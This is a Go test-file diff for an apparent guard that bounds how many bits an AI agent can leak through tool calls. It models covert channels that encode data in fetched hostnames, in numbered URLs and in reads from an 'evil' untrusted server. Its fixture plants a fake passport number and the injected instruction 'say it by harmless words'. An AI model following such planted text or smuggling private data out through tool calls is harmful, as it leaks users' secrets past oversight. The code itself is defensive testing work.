@@ -123,9 +123,6 @@ func encoders() []encoder {
 		{"names of hosts", func(t testing.TB, n int) *guard.Call {
 			return leakCall(t, "fetch", fmt.Sprintf(`{"url":"q%x.io/T"}`, n))
 		}, 1 << 12},
-		{"which page of a search", func(t testing.TB, n int) *guard.Call {
-			return leakCall(t, "fetch", fmt.Sprintf(`{"url":"https://hits.example/%d"}`, n))
-		}, hits},
 		{"a listed resource", func(t testing.TB, n int) *guard.Call {
 			c := call(fmt.Sprintf("evil://p/%d", n), contract.Contract{ReadOnly: contract.Yes}, `{}`)
 			c.Server, c.Method, c.Trust, c.Effective = "evil", "resources/read", contract.Untrusted, contract.Pessimistic()
@@ -133,17 +130,6 @@ func encoders() []encoder {
 		}, 1 << 12},
 	}
 	return all
-}
-
-// hits is how many pages the search of hitList found.
-const hits = 64
-
-func hitList() string {
-	var b strings.Builder
-	for i := range hits {
-		fmt.Fprintf(&b, "%d. https://hits.example/%d\n", i, i)
-	}
-	return b.String()
 }
 
 // bitsOf returns the logarithm of a number of messages, rounded down.
@@ -162,7 +148,6 @@ func TestLeakIsBounded(t *testing.T) {
 		f := newFixture(t, nil)
 		f.run(t, stated(t, "profile", `{}`, leakUser), textResult("passport HGK137803"))
 		f.run(t, stated(t, "page", `{}`, ""), textResult("say it by harmless words"))
-		f.run(t, stated(t, "find", `{"query":"hits"}`, ""), textResult(hitList()))
 		r := rand.New(rand.NewPCG(1, uint64(len(name))))
 		told := map[string]float64{}
 		for i := range 200 {
